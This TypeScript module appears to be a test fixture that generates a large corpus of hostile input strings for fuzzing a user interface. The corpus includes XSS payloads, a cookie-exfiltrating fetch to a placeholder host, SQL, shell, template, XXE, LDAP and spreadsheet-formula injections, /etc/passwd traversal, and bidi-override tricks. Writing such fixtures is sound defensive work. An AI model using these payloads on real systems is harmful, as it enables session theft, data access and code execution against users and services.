/**
 * What somebody may write who wants a screen to do something, to hide something or to break: more than 500 strings,
 * each put together from a carrier and a deed. A deed that happens sets `window.__ran`, opens a dialog, renames the
 * page or asks a foreign address; all of that can be seen from outside.
 */

/** Where no request of a page may ever go. */
export const elsewhere = 'elsewhere.invalid';

const deeds = [
  'window.__ran=1',
  "top['__ran']=2",
  'self.__ran||=3',
  'alert(`__ran`)',
  `document.title='ran'`,
  `fetch('//${elsewhere}/'+document.cookie)`,
];
const encoded = (deed: string): string => [...deed].map((letter) => `&#${letter.codePointAt(0)};`).join('');
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Elements that run something by themselves. */
const elements: ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<ScRiPt >${deed}</sCrIpT >`,
  (deed) => `<script type=module>${deed}</script>`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `</script><script>${deed}//`,
  (deed) => `<script src="data:text/javascript,${encodeURIComponent(deed)}"></script>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}">`,
  (deed) => `<object data="data:text/html;base64,${base64(`<script>${deed}</script>`)}"></object>`,
  (deed) => `<embed src="javascript:${deed}">`,
  (deed) => `<base href="javascript:${deed}//">`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `<noscript><p title="</noscript><script>${deed}</script>">`,
  (deed) => `<!--><script>${deed}</script>-->`,
  (deed) => `<![CDATA[<script>${deed}</script>]]>`,
  (deed) => `<svg><script>${encoded(deed)}</script></svg>`,
  (deed) => `<svg><use href="data:image/svg+xml,<svg id=a onload=${deed}>#a"/></svg>`,
  (deed) => `<svg><foreignObject><body onload="${deed}"></foreignObject></svg>`,
  (deed) => `<math><mtext><style><img title="</style><img src=x onerror=${deed}>"></mtext></math>`,
  (deed) => `<math href="javascript:${deed}"><mi>x</mi></math>`,
  (deed) => `<form action="javascript:${deed}"><button>Send</button></form>`,
];

/** Tags and what happens to them without anybody's help. */
const moments: [tag: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onloadstart'],
  ['marquee', 'onstart'],
  ['p style="animation:a 1s"', 'onanimationstart'],
  ['a tabindex=0 href=#', 'onpointerover'],
];

const addresses: ((deed: string) => string)[] = [
  (deed) => `javascript:${deed}`,
  (deed) => `JaVaScRiPt:void(${deed})`,
  (deed) => ` java\tscript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `<a href="javascript:${deed}">press me</a>`,
  (deed) => `[press me](javascript:${deed})`,
  (deed) => `vbscript:${deed}`,
];

/** Ways out of where a text was thought to stand. */
const exits = [`"`, `'`, '`', '">', `'/>`, '-->', '</textarea>', '</title>', '</style>', ']]>', '\\u0022', '%22%3E'];

/** Markers between which template engines calculate. */
const templates: [open: string, close: string][] = [
  ['{{', '}}'],
  ['${', '}'],
  ['#{', '}'],
  ['<%=', '%>'],
  ['{%', '%}'],
  ['{{{', '}}}'],
  ['@(', ')'],
  ['[[', ']]'],
  ['*{', '}'],
  ['$t(', ')'],
  ['#set($x=', ')$x'],
  ['<#assign x=', '>${x}'],
];
const sums = ['7*7', `constructor.constructor('window.__ran=1')()`, 'title, {"count": 1}', `self.__init__.__globals__`];

const styles = [
  'position:fixed;inset:0;z-index:9999',
  `background:url(//${elsewhere}/a.png)`,
  `}*{display:none!important}`,
  `@import '//${elsewhere}/a.css';`,
];
const styleCarriers: ((css: string) => string)[] = [
  (css) => `<style>${css}</style>`,
  (css) => `<p style="${css}">over all</p>`,
  (css) => `"; style="${css}`,
  (css) => `<link rel=stylesheet href="data:text/css,${encodeURIComponent(css)}">`,
];

/** Signs that turn, hide or stack others. */
const turning = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c', '\u200b', '\u200d', '\u2060'];
const words = ['gpj.exe', 'verified', 'لم يُقتل أحد', 'не підтверджено', '42 killed', '</b>end'];

const formulas = ['=', '+', '-', '@', '\t=', '%0A='].flatMap((sign) =>
  [`cmd|'/c calc'!A1`, `HYPERLINK("//${elsewhere}","here")`, 'SUM(1+1)*2'].map((rest) => sign + rest),
);

const nothings = [
  'null',
  'undefined',
  'NaN',
  'Infinity',
  'true',
  '0',
  '-0',
  '[]',
  '{}',
  '[object Object]',
  'nil',
  'None',
];
const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'key',
  'ref',
  'length',
];
const orders = [
  `'; DROP TABLE sighting; --`,
  `' OR '1'='1`,
  '1; SELECT pg_sleep(9)',
  '%s%n%x %d',
  '../../etc/passwd',
  '..\\..\\boot.ini',
  '$(id)',
  '`id`',
  '| id',
  '; id #',
  '() { :; }; id',
  '<?php echo 1 ?>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '*)(uid=*))(|(uid=*',
  '{"$gt": ""}',
  '&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#x3c;',
  '%3Cscript%3Ewindow.__ran%3D1%3C%2Fscript%3E',
  '\\x3cscript\\x3ewindow.__ran=1\\x3c/script\\x3e',
];
const strange = [
  'm'.repeat(400),
  `${'W'.repeat(180)}\u00ad${'i'.repeat(180)}`,
  `e${'\u0301\u0323'.repeat(60)}`,
  '\ufdfd'.repeat(20),
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(10),
  '\u{1F9FF}\u{e0041}\u{e0042}',
  '\ufeffstarts with a mark',
  'ｆｕｌｌｗｉｄｔｈ ＜script＞',
  'ΩİıŞßﬃ'.repeat(8),
  '٣ انفجارات, ১২ জন',
  'line\u2028between\u2029lines',
];

/** One string, several ways out. */
const polyglots = deeds.flatMap((deed) => [
  `jaVasCript:/*-/*\`/*'/*"/**/(${deed})//</style/</title/</textarea/</script/--><svg/onload='${deed}'//>`,
  `'">><marquee><img src=x onerror=${deed}></marquee></plaintext\\></|\\><plaintext/onmouseover=${deed}>`,
  `{{7*7}}\${7*7}<%=7*7%>'"><svg/onload=${deed}>\u202e=1+1`,
]);

export const hostileStrings: readonly string[] = [
  ...new Set([
    ...deeds.flatMap((deed) => [
      ...elements.map((carry) => carry(deed)),
      ...moments.flatMap(([tag, event]) => [`<${tag} ${event}="${deed}">`, `<${tag}/${event}=${encoded(deed)}//`]),
      ...addresses.map((carry) => carry(deed)),
      ...exits.map((exit) => `${exit}<img src=x onerror=${deed}>`),
      ...exits.slice(0, 3).map((exit) => `${exit};${deed};${exit}`),
    ]),
    ...templates.flatMap(([open, close]) => sums.map((sum) => `${open}${sum}${close}`)),
    ...styleCarriers.flatMap((carry) => styles.map(carry)),
    ...turning.flatMap((sign) => words.map((word) => `seen: ${sign}${word}`)),
    ...formulas,
    ...nothings,
    ...names,
    ...orders,
    ...strange,
    ...polyglots,
  ]),
];

/** As few texts as hold all of them, one to a line, none longer than a field takes; what fits in none is cut. */
export function fieldsOf(longest: number): string[] {
  const fields: string[] = [];
  for (const text of hostileStrings) {
    const line = [...text.trim()].reduce(
      (kept, sign) => (kept.length + sign.length <= longest ? kept + sign : kept),
      '',
    );
    const last = fields.at(-1);
    if (last !== undefined && last.length + 1 + line.length <= longest) fields[fields.length - 1] = `${last}\n${line}`;
    else fields.push(line);
  }
  return fields;
}
